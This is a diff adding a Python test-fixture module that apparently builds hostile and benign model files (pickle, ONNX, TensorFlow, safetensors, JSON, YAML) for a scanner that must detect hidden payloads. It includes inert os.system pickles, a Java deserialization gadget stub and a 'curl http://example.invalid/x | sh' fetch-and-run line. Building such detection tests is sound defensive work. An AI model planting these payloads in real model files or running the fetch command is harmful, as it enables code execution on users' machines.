@@ -1,0 +1,141 @@
+"""What formats carry and no loader of theirs looks into: payloads put where nothing reads them."""
+
+from __future__ import annotations
+
+import base64
+import gzip
+import json
+import marshal
+import pickle
+import struct
+import zlib
+from collections.abc import Callable, Mapping
+
+from tests.artifacts.builders import onnx_models as onnx
+from tests.artifacts.builders import pickles as make
+from tests.artifacts.builders.payloads import EVIL_PICKLE
+from tests.artifacts.builders.protobufs import message, number, text
+
+PROGRAM = "import os; os.system('echo inert')"
+ELF = b"\x7fELF\x02\x01\x01" + bytes(57)
+CODE = marshal.dumps(compile(PROGRAM, "<inert>", "exec"))
+LONG = PROGRAM.rjust(6000)
+
+
+def literal(value: object) -> bytes:
+    return pickle.dumps({"weights": value}, 4)
+
+
+def shadowed(argument: bytes, how: bytes = b"\x85R") -> bytes:
+    return make.stream(make.stacked("collections", "OrderedDict"), argument, how)
+
+
+def stored_tensor(data: bytes) -> bytes:
+    header = json.dumps(
+        {"w": {"dtype": "U8", "shape": [len(data)], "data_offsets": [0, len(data)]}}
+    )
+    return struct.pack("<Q", len(header)) + header.encode() + data
+
+
+def graph_with(constant: bytes, *more: bytes) -> bytes:
+    """A SavedModel with a constant text, and further fields of its MetaGraph."""
+    tensor = message(8, number(1, 7), message(8, constant))
+    attribute = message(5, text(1, "value"), message(2, tensor))
+    node = message(1, text(1, "c"), text(2, "Const"), attribute)
+    return number(1, 1) + message(2, message(2, node), *more)
+
+
+def by_value(*names: str, hook: str = "m") -> bytes:
+    """A class that cloudpickle stores with a method, whose code names ``names``; and an object."""
+    home = "cloudpickle.cloudpickle"
+    texts = b"".join(make.text(name) for name in names)
+    code = (
+        make.stacked(home, "_builtin_type") + make.text("CodeType") + b"\x85R"
+        + b"(K\x01K\x00K\x00K\x01K\x02K\x13C\x02\x97\x00N\x85(" + texts + b"t" + make.text("x")
+        + b"\x85" + make.text("<dynamic-code>") + make.text("m") + b"tR"
+    )  # fmt: skip
+    function = make.stacked(home, "_make_function") + b"(" + code + b"}NNNtR"
+    skeleton = (
+        make.stacked(home, "_make_skeleton_class") + b"("
+        + make.stacked("builtins", "type") + make.text("K")
+        + make.stacked("builtins", "object") + b"\x85}" + make.text("id") + b"NtR"
+    )  # fmt: skip
+    state = b"}" + make.text(hook) + function + b"s}\x86"
+    made = make.stacked(home, "_class_setstate") + skeleton + state + b"\x86R"
+    return make.stream(made, b")\x81")
+
+
+HOSTILE: Mapping[str, Callable[[], bytes]] = {
+    "carried/pickle-literal-gzip": lambda: literal(gzip.compress(EVIL_PICKLE)),
+    "carried/pickle-literal-zlib": lambda: literal(zlib.compress(EVIL_PICKLE * 3)),
+    "carried/pickle-literal-elf": lambda: literal(ELF),
+    "carried/pickle-literal-code": lambda: literal(CODE),
+    "carried/pickle-literal-code-base64": lambda: literal(base64.b64encode(CODE).decode()),
+    "carried/pickle-persistent-id": lambda: b"P" + PROGRAM.encode() + b"\n.",
+    "carried/pickle-program-in-list": lambda: shadowed(b"]" + make.text(PROGRAM) + b"a"),
+    "carried/pickle-program-in-bytes": lambda: shadowed(
+        b"C" + bytes([len(PROGRAM)]) + PROGRAM.encode()
+    ),
+    "carried/pickle-program-at-the-end": lambda: shadowed(make.long_text(LONG)),
+    "carried/pickle-program-instantiated": lambda: shadowed(make.text(PROGRAM), b"\x85\x81"),
+    "carried/pickle-memory": lambda: make.stream(
+        make.stacked("builtins", "bytearray"), b"\x8a\x06\0\0\0\0\xff\x7f", b"\x85R"
+    ),
+    "carried/by-value-names-os": lambda: by_value("os", "system"),
+    "carried/by-value-hook": lambda: by_value(hook="__setstate__"),
+    "carried/onnx-unknown-field": lambda: onnx.model(
+        onnx.graph(onnx.node("Relu")), message(99, EVIL_PICKLE)
+    ),
+    "carried/onnx-document": lambda: onnx.model(onnx.graph(onnx.node("Relu")), text(6, PROGRAM)),
+    "carried/onnx-tensor": lambda: onnx.model(
+        onnx.graph(onnx.node("Relu"), tensors=(onnx.tensor(data=EVIL_PICKLE),))
+    ),
+    "carried/onnx-attribute": lambda: onnx.model(
+        onnx.graph(onnx.node("Relu", onnx.attribute("a", text(4, PROGRAM))))
+    ),
+    "carried/onnx-attribute-list": lambda: onnx.model(
+        onnx.graph(onnx.node("Relu", onnx.attribute("a", message(9, EVIL_PICKLE))))
+    ),
+    "carried/onnx-string-tensor": lambda: onnx.model(
+        onnx.graph(onnx.node("Relu"), tensors=(number(2, 8) + message(6, EVIL_PICKLE),))
+    ),
+    "carried/tensorflow-constant": lambda: graph_with(EVIL_PICKLE),
+    "carried/tensorflow-program": lambda: graph_with(PROGRAM.encode()),
+    "carried/tensorflow-collection": lambda: graph_with(
+        b"x", message(4, text(1, "k"), message(2, message(2, message(1, EVIL_PICKLE))))
+    ),
+    "carried/tensorflow-unknown-field": lambda: graph_with(b"x", message(77, EVIL_PICKLE)),
+    "carried/safetensors-pickle": lambda: stored_tensor(EVIL_PICKLE),
+    "carried/safetensors-elf": lambda: stored_tensor(ELF),
+    "carried/json-program": lambda: json.dumps({"model_type": "x", "pre": PROGRAM}).encode(),
+    "carried/json-pickle": lambda: json.dumps(
+        {"state": base64.b64encode(EVIL_PICKLE).decode()}
+    ).encode(),
+    "carried/json-kernel": lambda: json.dumps(
+        {"model_type": "llama", "_attn_implementation": "someone/kernel"}
+    ).encode(),
+    "carried/spark-class": lambda: json.dumps(
+        {"class": "com.example.Stage", "sparkVersion": "3.5.0", "uid": "u", "paramMap": {}}
+    ).encode(),
+    "carried/mxnet-custom": lambda: json.dumps(
+        {"nodes": [{"op": "Custom", "name": "x", "attrs": {"op_type": "own"}}], "heads": [[0, 0]]}
+    ).encode(),
+    "carried/yaml-target": lambda: (
+        b"model:\n  target: os.system\n  params:\n    command: echo inert\n"
+    ),
+    "carried/shell-fetches": lambda: b"curl http://example.invalid/x | sh\n",
+    "carried/compiled-python": lambda: b"\xa7\r\r\n" + bytes(12) + CODE,
+    "carried/java-gadget": lambda: (
+        b"\xac\xed\0\5sr\0\x3aorg.apache.commons.collections.functors.InvokerTransformer"
+        + bytes(32)
+    ),
+}
+BENIGN: Mapping[str, Callable[[], bytes]] = {
+    "carried/plain-literals": lambda: literal(bytes(range(256)) * 20),
+    "carried/by-value": lambda: by_value("math", "pi"),
+    "carried/plain-constant": lambda: graph_with(b"a word"),
+    "carried/plain-tensor": lambda: stored_tensor(bytes(range(200))),
+    "carried/plain-json": lambda: json.dumps(
+        {"model_type": "x", "description": "call os.system() never", "_attn_implementation": "sdpa"}
+    ).encode(),
+}
